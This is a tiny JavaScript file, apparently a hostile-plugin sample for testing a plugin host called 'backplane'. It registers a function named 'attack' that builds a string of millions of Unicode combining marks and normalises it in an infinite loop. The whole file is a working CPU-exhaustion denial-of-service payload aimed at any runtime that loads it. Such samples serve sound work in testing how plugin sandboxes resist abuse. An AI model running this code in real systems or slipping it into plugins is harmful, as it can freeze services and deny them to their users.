// Unicode normalisation of endless combining marks.
globalThis.__backplanePlugin = {
  functions: {
    async attack(params, ctx) {
      const marks = "a" + "\u0316\u0301".repeat(4_000_000);
      for (;;) marks.normalize("NFC");
    },
  },
};
